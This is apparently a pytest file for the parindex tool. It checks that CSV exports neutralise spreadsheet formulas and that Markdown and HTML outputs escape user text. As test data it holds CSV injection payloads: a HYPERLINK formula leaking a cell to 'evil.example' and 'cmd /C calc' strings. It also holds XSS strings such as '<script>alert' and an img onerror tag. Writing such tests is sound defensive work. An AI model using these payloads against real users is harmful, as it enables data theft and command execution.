"""Class 4 of issue 14: user text written into outputs is neutralised.

A CSV cell holding text that a spreadsheet would run as a formula (it starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return: OWASP's rule) is written with a leading ``'``; numbers
stay numbers, negative ones too. Text written to Markdown is HTML-escaped, so a unit named
``<script>…`` is shown as text, and a ``|`` in it cannot break a table. The HTML report escapes
everything it writes. Each writer is checked through the command line, as a user runs it, and a
guard checks that every CSV and Markdown writer in the code uses the neutralising functions.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
import yaml

import parindex.io.registry
import parindex_core_rules
from parindex import api
from parindex.cli.main import main
from parindex.io.registry import Registry
from parindex.model.documents import Text
from parindex.model.text import md_cell, safe_cell
from parindex.report.table import Column, Table, to_csv

REPO = Path(__file__).resolve().parents[2]
BASE = Path(__file__).parent / "base"

#: Unit names an attacker would put in a shared table (each must reach a spreadsheet as text).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SCRIPT = '<script>alert("x")</script>'


@pytest.fixture
def registry(monkeypatch: pytest.MonkeyPatch) -> Iterator[Registry]:
    """The corpus's base ruleset as the only ruleset, also for the command line."""
    reg = Registry([parindex_core_rules], entry_points=False)
    reg.add(api.load_ruleset(BASE / "test.province.yaml", registry=reg))
    monkeypatch.setattr(parindex.io.registry, "_DEFAULT", reg)
    yield reg


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def hostile_csv(tmp_path: Path) -> Path:
    rows = ["ruleset,year,unit,unit_name,1.1,1.2,2.1,2.2"]
    points = ["4,6,4.25,4", "2,3,3,5", "4,3,3,5", "2,6,4.25,4", "0,0,0,5", "4,0,1,2"]
    body = io.StringIO()
    # every cell quoted: the csv module leaves a cell holding only a carriage return unquoted
    writer = csv.writer(body, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for i, (name, p) in enumerate(zip(FORMULAS, points, strict=True)):
        writer.writerow(["test.province", "2020", f"u{i}", name, *p.split(",")])
    path = tmp_path / "hostile.csv"
    path.write_text(rows[0] + "\n" + body.getvalue(), encoding="utf-8")
    return path


def hostile_ruleset(tmp_path: Path) -> Path:
    data = yaml.safe_load((BASE / "test.province.yaml").read_text(encoding="utf-8"))
    data["title"] = {"en": f"{SCRIPT} <b>bold</b>"}
    field = data["nodes"][0]
    field["title"] = {"en": FORMULAS[0]}
    field["children"][0]["title"] = {"en": f"{SCRIPT} | broken | table"}
    path = tmp_path / "hostile-ruleset.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def hostile_assessment(tmp_path: Path) -> Path:
    data = yaml.safe_load((BASE / "assessment.yaml").read_text(encoding="utf-8"))
    data["unit"] = {"id": "hostile", "name": f"{SCRIPT}=1+1|x"}
    path = tmp_path / "hostile-assessment.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ----------------------------------------------------------------------------- the rule itself
@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_quote(text: str) -> None:
    # (a carriage return becomes a line feed: Python's csv writer quotes a cell holding a line
    # feed, but not one holding only a carriage return, which then splits the row in two)
    assert safe_cell(text) == "'" + text.replace("\r", "\n")


def test_a_carriage_return_cannot_split_a_row() -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([safe_cell("a\rb"), safe_cell("x\r\ny"), 1])
    assert list(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [["a\nb", "x\ny", "1"]]


@pytest.mark.parametrize(
    "value", ["-3.25", "+5", "-0.5", "1.234,5", "12%", "-1e-5", Decimal("-3.25"), -3, None]
)
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["Quảng Ninh", "A-1", "x=1", "", "'=already quoted"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_a_table_export_keeps_negative_numbers_and_quotes_text() -> None:
    table = Table(
        id="t",
        title=Text(en="t"),
        columns=(Column("unit", Text(en="Unit")), Column("change", Text(en="Change"))),
        rows=(("-3.25 vs 2018", Decimal("-3.25")), ("=1+1", Decimal("0.5")), ("ok", None)),
    )
    rows = list(csv.reader(io.StringIO(to_csv(table))))
    assert rows == [
        ["unit", "change"],
        ["'-3.25 vs 2018", "-3.25"],  # the number is a number, the text is text
        ["'=1+1", "0.5"],
        ["ok", ""],
    ]


# ----------------------------------------------------------------------------- CSV writers
def test_rank_csv_writes_unit_names_as_text(
    registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = read_csv(run(capsys, "rank", str(hostile_csv(tmp_path)), "-f", "csv"))
    # (the CSV reader strips the space around a cell: "\t=1+1" is the unit "=1+1")
    assert sorted(r["Unit"] for r in rows) == sorted("'" + name.strip() for name in FORMULAS)
    for r in rows:
        # totals and indices are plain numbers (the base ruleset's maximum is 20)
        assert Decimal(r["Total"]) >= 0 and Decimal(r["Index"]) == Decimal(r["Total"]) * 5


def test_score_csv_writes_titles_as_text(
    registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = run(
        capsys,
        "score",
        str(hostile_assessment(tmp_path)),
        "--ruleset",
        str(hostile_ruleset(tmp_path)),
        "-f",
        "csv",
    )
    rows = read_csv(out)
    titles = {r["Code"]: r["Title"] for r in rows}
    assert titles["1"] == "'" + FORMULAS[0]
    assert Decimal(next(r["Points"] for r in rows if r["Code"] == "2.1")) == Decimal("4.25")


def test_reproduce_csv_writes_unit_names_as_text(
    registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = (BASE / "dataset.csv").read_text(encoding="utf-8").splitlines()
    path = tmp_path / "published.csv"
    path.write_text(
        "\n".join([lines[0], lines[1].replace(",a,", ",@SUM(A1),"), lines[2]]) + "\n",
        encoding="utf-8",
    )
    code = main(["reproduce", str(path), "-f", "csv"])
    out = capsys.readouterr().out
    assert code in (0, 1)  # 1: a total that does not agree is reported, not an error
    units = [r["unit"] for r in read_csv(out)]
    assert "'@SUM(A1)" in units and "b" in units


def test_sipas_csv_writes_unit_names_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "answers.csv"
    path.write_text(
        'respondent,unit,item,answer\nr1,"=HYPERLINK(""x"")",E1.1,4\nr2,ok,E1.1,5\n',
        encoding="utf-8",
    )
    rows = read_csv(run(capsys, "sipas", str(path), "-f", "csv"))
    assert {r["unit"] for r in rows} == {'\'=HYPERLINK("x")', "ok"}


# ----------------------------------------------------------------------------- Markdown and HTML
def pipes(line: str) -> int:
    """The table-column separators of a Markdown table row (escaped pipes do not count)."""
    return len(re.findall(r"(?<!\\)\|", line))


def assert_clean_markdown(out: str) -> None:
    assert "<script" not in out and "<b>" not in out and "<img" not in out, out
    table_rows = [line for line in out.splitlines() if line.startswith("|")]
    assert table_rows, out
    by_table: dict[int, set[int]] = {}
    block = 0
    previous = False
    for line in out.splitlines():
        is_row = line.startswith("|")
        if is_row and not previous:
            block += 1
        if is_row:
            by_table.setdefault(block, set()).add(pipes(line))
        previous = is_row
    assert all(len(counts) == 1 for counts in by_table.values()), by_table


def test_score_markdown_escapes_html(
    registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = run(
        capsys,
        "score",
        str(hostile_assessment(tmp_path)),
        "--ruleset",
        str(hostile_ruleset(tmp_path)),
        "-f",
        "markdown",
    )
    assert_clean_markdown(out)
    assert "&lt;script&gt;" in out and "\\| broken \\| table" in out


def test_rank_markdown_escapes_html(
    registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "names.csv"
    body = io.StringIO()
    writer = csv.writer(body, lineterminator="\n")
    writer.writerow(["ruleset", "year", "unit", "unit_name", "1.1", "1.2", "2.1", "2.2"])
    writer.writerow(["test.province", 2020, "a", f"{SCRIPT}|x", 4, 6, 4.25, 4])
    writer.writerow(["test.province", 2020, "b", "<img src=x onerror=alert(1)>", 2, 3, 3, 5])
    path.write_text(body.getvalue(), encoding="utf-8")
    out = run(capsys, "rank", str(path), "-f", "markdown")
    assert_clean_markdown(out)
    assert "&lt;img src=x onerror=alert(1)&gt;" in out


def test_show_markdown_escapes_html(
    registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = run(capsys, "show", str(hostile_ruleset(tmp_path)), "-f", "markdown")
    assert_clean_markdown(out)
    assert "&lt;b&gt;bold&lt;/b&gt;" in out


@pytest.mark.parametrize("fmt", ["markdown", "html"])
def test_report_escapes_user_text(
    fmt: str, registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rs = hostile_ruleset(tmp_path)
    out = run(capsys, "report", str(hostile_assessment(tmp_path)), "--ruleset", str(rs), "-f", fmt)
    assert SCRIPT not in out and "<b>bold" not in out
    assert "&lt;script&gt;" in out
    if fmt == "markdown":
        assert_clean_markdown(out)
    else:
        assert "<script" not in out  # the HTML report carries no script at all


def test_markdown_cell_rule() -> None:
    assert md_cell("a|b") == "a\\|b"
    assert md_cell("x\ny") == "x y"  # a line break would end the table row
    assert md_cell("<i>&lt;") == "&lt;i&gt;&amp;lt;"  # an entity is shown as written
    assert md_cell("Sở TT&TT") == "Sở TT&TT"  # a lone & stays as written


# ----------------------------------------------------------------------------- the guard
def test_every_csv_and_markdown_writer_neutralises_user_text() -> None:
    # A guard for new code: a module that makes a csv.writer also uses safe_cell/safe_row(s);
    # one that renders a Markdown ("pipe") table with tabulate also escapes cells with md_cell
    # (the others hand "pipe" to report.table.to_text or diff's to_table, which escape).
    offenders = []
    for folder in (REPO / "src" / "parindex", REPO / "plugins"):
        for path in folder.rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            where = path.relative_to(REPO).as_posix()
            if "csv.writer(" in text and not re.search(r"\bsafe_(cell|row|rows)\b", text):
                offenders.append(f"{where}: csv.writer without safe_cell/safe_row(s)")
            if "tabulate(" in text and '"pipe"' in text and "md_cell" not in text:
                offenders.append(f"{where}: a Markdown table without md_cell")
    assert offenders == []
